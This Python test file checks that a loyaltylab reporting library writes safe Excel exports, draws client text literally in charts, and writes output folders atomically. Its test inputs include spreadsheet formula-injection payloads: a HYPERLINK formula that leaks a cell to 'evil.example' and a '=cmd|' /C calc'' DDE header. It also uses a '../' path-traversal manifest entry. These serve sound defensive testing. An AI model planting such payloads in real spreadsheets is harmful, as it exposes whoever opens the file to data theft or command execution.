"""Files a consultant can send: no formulas from client text, client text drawn as text,
atomic and owned output folders."""

from __future__ import annotations

import io

import openpyxl
import polars as pl
import pytest

from loyaltylab.report import Report, export_tables

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+1", "@SUM(A1)",
           "-2+3", "\tcmd", "\r=1", "http://evil.example", "plain", "-12.50"]


# ------------------------------------------------------------------ formula injection
def _cells(path, sheet):
    ws = openpyxl.load_workbook(path)[sheet]
    return [[(c.value, c.data_type, c.hyperlink) for c in row] for row in ws.iter_rows()]


def test_client_text_in_the_workbook_is_never_a_formula_or_a_link(tmp_path):
    path = tmp_path / "tables.xlsx"
    frame = pl.DataFrame({"campaign": HOSTILE, "orders": list(range(len(HOSTILE))),
                          "tier": pl.Series(HOSTILE, dtype=pl.Categorical)})
    export_tables({"Campaigns": frame}, path, notes={"Campaigns": "=1+1 a note"})
    rows = _cells(path, "Campaigns")
    assert [v for v, _, _ in rows[0]] == ["campaign", "orders", "tier"]
    for col in (0, 2):
        values = [r[col] for r in rows[1:]]
        assert all(kind == "s" and link is None for _, kind, link in values), values
        # xlsx stores a carriage return as _x000D_ (Excel shows it as one)
        assert [v.replace("_x000D_", "\r") for v, _, _ in values] == [
            '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")', "'+1+1", "'@SUM(A1)",
            "'-2+3", "'\tcmd", "'\r=1", "http://evil.example", "plain", "-12.50"]
    assert [r[1][0] for r in rows[1:]] == list(range(len(HOSTILE)))  # numbers stay numbers
    about = _cells(path, "About")
    assert about[1][2][:2] == ("'=1+1 a note", "s")


def test_a_hostile_column_name_is_neutralised_too(tmp_path):
    path = tmp_path / "t.xlsx"
    export_tables({"t": pl.DataFrame({"=cmd|' /C calc'!A0": ["x"]})}, path)
    header = _cells(path, "t")[0][0]
    assert header[0] == "'=cmd|' /C calc'!A0" and header[1] == "s"


def test_report_workbook_and_data_quality_sheet_are_text(tmp_path):
    rep = Report("Demo")
    rep.add_table(pl.DataFrame({"segment": HOSTILE[:3], "buyers": [1, 2, 3]}),
                  title="=Segments")
    path = rep.write_excel(tmp_path / "tables.xlsx")
    wb = openpyxl.load_workbook(path)
    ws = wb[wb.sheetnames[1]]
    assert [c.value for c in ws["A"]][1:] == ["'" + v for v in HOSTILE[:3]]
    assert all(c.data_type == "s" for c in ws["A"])


# ------------------------------------------------------------------ client text in charts
TIERS = ["$", "$$", "$$$", "50%_off", "a_b^c", "$5 off $10"]


def _drawn_texts(fig) -> list[str]:
    """Every text of the figure as drawn (SVG with text kept as text)."""
    import xml.etree.ElementTree as ET

    import matplotlib as mpl

    buf = io.BytesIO()
    with mpl.rc_context({"svg.fonttype": "none"}):
        fig.savefig(buf, format="svg")
    fig.savefig(io.BytesIO(), format="png")
    fig.savefig(io.BytesIO(), format="pdf")
    root = ET.fromstring(buf.getvalue())
    return ["".join(el.itertext()) for el in root.iter("{http://www.w3.org/2000/svg}text")]


@pytest.fixture(scope="module")
def tiered():
    import loyaltylab as ll

    data = ll.datasets.load_sample()
    customers = data.customers.with_columns(
        pl.Series("segment", [TIERS[i % len(TIERS)] for i in range(data.customers.height)]))
    return data.replace(customers=customers)


def test_price_tiers_and_odd_names_are_drawn_as_they_read(tiered):
    import matplotlib.pyplot as plt

    import loyaltylab as ll
    from loyaltylab.data.overview import customer_mix

    axes = [
        ll.plots.plot_customer_mix(customer_mix(tiered, by="segment")),  # categorical bars
        ll.plots.plot_nps(ll.survey.nps(tiered, by="segment")),  # fixed tick labels
        ll.plots.plot_retention(ll.churn.KaplanMeier().fit(
            ll.churn.churn_table(tiered, inactivity="180d"), by="segment")),  # legend, text
    ]
    for ax in axes:
        drawn = _drawn_texts(ax.figure)
        for tier in TIERS:
            assert any(t == tier or t.startswith(tier + " ") or t.startswith(tier + "s")
                       for t in drawn), (tier, drawn)
        plt.close(ax.figure)


def test_a_title_with_dollars_is_drawn_as_given():
    import matplotlib.pyplot as plt

    import loyaltylab as ll
    from loyaltylab.data.overview import customer_mix

    mix = pl.DataFrame({"tier": ["$", "$$"], "customers": [3, 4], "buyers": [1, 2]})
    ax = ll.plots.plot_customer_mix(mix, title="Tiers $ and $$ compared")
    assert "Tiers $ and $$ compared" in _drawn_texts(ax.figure)
    assert customer_mix  # imported for the signature only
    plt.close(ax.figure)


# ------------------------------------------------------------------ owned, atomic folders
import errno  # noqa: E402
import json  # noqa: E402
import os  # noqa: E402
import signal  # noqa: E402
import subprocess  # noqa: E402
import sys  # noqa: E402
import time  # noqa: E402
from pathlib import Path  # noqa: E402

from loyaltylab.report._output import (  # noqa: E402
    MANIFEST, OutputError, OutputFolder, check_output_folder, describe_os_error,
)


def _tree(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def _leftovers(out: Path) -> list[str]:
    return sorted(p.name for p in out.parent.iterdir() if p.name.startswith(f".{out.name}."))


def _small_report(n_charts: int, title: str = "Demo") -> Report:
    import matplotlib.pyplot as plt

    rep = Report(title)
    for k in range(n_charts):
        fig, ax = plt.subplots()
        ax.plot([0, 1], [k, k + 1])
        ax.set_title(f"Chart {k + 1}")
        rep.add_figure(fig)
    rep.add_table(pl.DataFrame({"segment": ["a"], "buyers": [1]}), title="Buyers")
    return rep


def test_a_second_run_replaces_the_files_of_the_first_and_keeps_the_users(tmp_path):
    out = tmp_path / "reports"
    first = _small_report(3).write_all(out, formats=("png",), progress=False)
    assert len(first["charts"]) == 3 and all(p.parent == out / "charts" for p in first["charts"])
    listed = json.loads((out / MANIFEST).read_text())["files"]
    assert sorted(listed) == sorted(_tree(out).keys() - {MANIFEST})
    (out / "my-notes.txt").write_text("mine")
    (out / "charts" / "my-sketch.png").write_bytes(b"mine")
    second = _small_report(1, "Second client").write_all(out, formats=("png",), progress=False)
    names = sorted(_tree(out))
    assert names == sorted([MANIFEST, "charts/01-chart-1.png", "charts/my-sketch.png",
                            "deck.pptx", "my-notes.txt", "report.html", "tables.xlsx"])
    assert "Second client" in second["html"].read_text()
    assert json.loads((out / MANIFEST).read_text())["files"] == sorted(
        n for n in names if n not in (MANIFEST, "my-notes.txt", "charts/my-sketch.png"))
    assert _leftovers(out) == []


def test_the_manifest_never_reaches_outside_its_folder(tmp_path):
    outside = tmp_path / "precious.txt"
    outside.write_text("keep")
    out = tmp_path / "reports"
    out.mkdir()
    (out / MANIFEST).write_text(json.dumps({"files": ["../precious.txt", str(outside)]}))
    with OutputFolder(out) as stage:
        (stage / "a.txt").write_text("a")
    assert outside.read_text() == "keep" and sorted(_tree(out)) == [MANIFEST, "a.txt"]


def test_refused_output_folders(tmp_path):
    source = tmp_path / "client"
    source.mkdir()
    (source / "orders.csv").write_text("x")
    with pytest.raises(OutputError, match=r"is inside the source folder .*client; choose a "
                                          r"folder outside it, e.g. .*client-report"):
        check_output_folder(source / "out", source=source)
    with pytest.raises(OutputError, match=r"is the source folder"):
        check_output_folder(source, source=source)
    with pytest.raises(OutputError, match=r"holds the source"):
        check_output_folder(tmp_path, source=source / "orders.csv")
    with pytest.raises(OutputError, match=r"is not empty and was not written by loyaltylab "
                                          r"\(it has no \.loyaltylab-manifest\.json\)"):
        check_output_folder(source)
    with pytest.raises(OutputError, match=r"is a file"):
        check_output_folder(source / "orders.csv")
    real = tmp_path / "real"
    real.mkdir()
    (tmp_path / "link").symlink_to(real, target_is_directory=True)
    with pytest.raises(OutputError, match=r"link is a symbolic link; loyaltylab does not "
                                          r"write through links"):
        check_output_folder(tmp_path / "link")
    owned = tmp_path / "owned"
    with OutputFolder(owned) as stage:
        (stage / "report.html").write_text("x")
    (owned / "charts").symlink_to(tmp_path / "elsewhere", target_is_directory=True)
    with pytest.raises(OutputError, match=r"holds a symbolic link, charts"):
        check_output_folder(owned)
    empty = tmp_path / "empty"
    empty.mkdir()
    assert check_output_folder(empty) == empty.resolve()
    # a file source: its folder is not the output's business, only the file itself
    assert check_output_folder(tmp_path / "o", source=source / "orders.csv")


def test_a_failed_run_leaves_the_previous_output_and_no_staging_folder(tmp_path):
    out = tmp_path / "reports"
    with OutputFolder(out) as stage:
        (stage / "report.html").write_text("first")
    before = _tree(out)
    with pytest.raises(RuntimeError):
        with OutputFolder(out) as stage:
            (stage / "report.html").write_text("half")
            raise RuntimeError("stopped")
    assert _tree(out) == before and _leftovers(out) == []


def test_leftovers_of_a_killed_run_are_cleaned_by_the_next_one(tmp_path):
    out = tmp_path / "reports"
    with OutputFolder(out) as stage:
        (stage / "report.html").write_text("first")
    # killed with SIGKILL while writing: a staging folder stays behind
    stale = tmp_path / ".reports.loyaltylab-unfinished-dead0001"
    stale.mkdir()
    (stale / ".loyaltylab-unfinished").write_text("")
    (stale / "report.html").write_text("half")
    # a folder of the user that only looks alike is never touched
    lookalike = tmp_path / ".reports.loyaltylab-unfinished-mine"
    lookalike.mkdir()
    (lookalike / "keep.txt").write_text("keep")
    # killed between the two final renames: the previous output is put back first
    (out / "notes.txt").write_text("user file")
    os.rename(out, tmp_path / ".reports.loyaltylab-previous-dead0002")
    with OutputFolder(out) as stage:
        assert (out / "report.html").read_text() == "first"  # restored before writing
        (stage / "report.html").write_text("second")
    assert _tree(out) == {MANIFEST: (out / MANIFEST).read_bytes(),
                          "notes.txt": b"user file", "report.html": b"second"}
    assert _leftovers(out) == [".reports.loyaltylab-unfinished-mine"]


def test_describe_os_error_is_one_plain_line():
    full = OSError(errno.ENOSPC, "No space left on device", "/r/deck.pptx")
    assert describe_os_error(full, out="/r") == (
        "the disk is full: writing /r/deck.pptx failed; free some space or choose another "
        "output folder (/r was left as it was)")
    denied = PermissionError(errno.EACCES, "Permission denied", "/r")
    assert describe_os_error(denied).startswith("cannot write to /r: permission denied")


@pytest.fixture
def small_disk(tmp_path):
    """A 2 MB tmpfs (needs root); skipped where the machine does not allow mounting."""
    mnt = tmp_path / "disk"
    mnt.mkdir()
    proc = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=2m", "tmpfs", str(mnt)],
                          capture_output=True)
    if proc.returncode != 0:
        pytest.skip("cannot mount a tmpfs here; the simulated ENOSPC test covers the path")
    yield mnt
    subprocess.run(["umount", str(mnt)], check=False)


def test_a_full_disk_leaves_the_previous_output(small_disk):
    import numpy as np

    out = small_disk / "reports"
    _small_report(1).write_all(out, formats=("png",), progress=False)
    before = _tree(out)
    big = _small_report(0)
    import matplotlib.pyplot as plt

    rng = np.random.default_rng(0)
    for k in range(6):
        fig, ax = plt.subplots()
        ax.scatter(rng.random(20_000), rng.random(20_000), s=1)
        ax.set_title(f"Dense {k}")
        big.add_figure(fig)
    with pytest.raises(OSError) as exc:
        big.write_all(out, progress=False)
    assert exc.value.errno == errno.ENOSPC
    assert _tree(out) == before and _leftovers(out) == []
    assert describe_os_error(exc.value, out=out).startswith("the disk is full: writing ")


def test_a_run_stopped_by_sigterm_leaves_the_previous_output(tmp_path):
    """Run `loyaltylab report` on the bundled sample, stop it with SIGTERM while it writes
    into its staging folder: the previous output is untouched and nothing is left over."""
    out = tmp_path / "reports"
    _small_report(2, "Previous client").write_all(out, formats=("png",), progress=False)
    before = _tree(out)
    env = dict(os.environ, MPLBACKEND="Agg", LOYALTYLAB_SALT="test-salt")
    proc = subprocess.Popen([sys.executable, "-m", "loyaltylab.cli", "report", "--out",
                             str(out), "--no-progress"], env=env, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 600
    try:
        while time.monotonic() < deadline and proc.poll() is None:
            staging = [p for p in tmp_path.iterdir() if "unfinished" in p.name]
            if staging and (staging[0] / "charts").is_dir():
                break
            time.sleep(0.05)
        assert proc.poll() is None, "the run ended before it could be stopped"
        proc.send_signal(signal.SIGTERM)
        _, err = proc.communicate(timeout=120)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 128 + signal.SIGTERM
    assert err.strip().splitlines()[-1] == ("loyaltylab report: stopped (terminated); the "
                                            "output folder holds the last complete output, "
                                            "or nothing")
    assert "Traceback" not in err
    assert _tree(out) == before
    assert _leftovers(out) == []


def test_a_report_of_price_tiers_writes_every_file(tmp_path):
    import loyaltylab as ll

    mix = pl.DataFrame({"tier": ["$", "$$", "$$$", "50%_off"], "customers": [4, 3, 2, 1],
                        "buyers": [2, 2, 1, 1]})
    rep = Report("Tiers")
    rep.add_figure(ll.plots.plot_customer_mix(mix))
    files = rep.write_all(tmp_path / "out", formats=("svg", "png"), progress=False)
    svg = next(p for p in files["charts"] if p.suffix == ".svg").read_text()
    for tier in ("$", "$$", "$$$", "50%_off"):
        assert f">{tier}</text>" in svg
    assert "\\$" not in svg


def test_a_footnote_with_dollars_is_drawn_as_given():
    import matplotlib.pyplot as plt

    from loyaltylab.report import Footnote, prepare_figure

    fig, ax = plt.subplots()
    ax.plot([0, 1], [0, 1])
    prepare_figure(fig, footnote=Footnote(n=3, source="export $$ tiers"))
    assert any("export $$ tiers" in t for t in _drawn_texts(fig))
    plt.close(fig)


def test_a_stop_request_during_the_final_renames_waits_for_them(tmp_path):
    out = tmp_path / "reports"
    with OutputFolder(out) as stage:
        (stage / "report.html").write_text("first")
    received = []
    previous = signal.signal(signal.SIGTERM, lambda *a: received.append(True))
    real_rename = os.rename

    def rename_and_signal(a, b):
        real_rename(a, b)
        if not received and "previous" in str(b):
            os.kill(os.getpid(), signal.SIGTERM)  # arrives between the two renames
            time.sleep(0.05)  # time for any thread to see it; the handler runs in this one
            assert not received  # held until both renames are done
    try:
        os.rename = rename_and_signal
        with OutputFolder(out) as stage:
            (stage / "report.html").write_text("second")
    finally:
        os.rename = real_rename
        signal.signal(signal.SIGTERM, previous)
    assert received == [True] and (out / "report.html").read_text() == "second"


def test_a_second_run_into_a_folder_being_written_is_refused(tmp_path):
    out = tmp_path / "reports"
    other = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        busy = tmp_path / ".reports.loyaltylab-unfinished-busy0001"
        busy.mkdir()
        (busy / ".loyaltylab-unfinished").write_text(f"pid {other.pid}\n")
        with pytest.raises(OutputError, match=rf"another loyaltylab run \(process "
                                              rf"{other.pid}\) is writing into .*reports"):
            with OutputFolder(out):
                pass
        assert busy.is_dir()
    finally:
        other.kill()
        other.wait()
    with OutputFolder(out) as stage:  # once it is gone, its folder is cleaned up
        (stage / "a.txt").write_text("a")
    assert _leftovers(out) == []
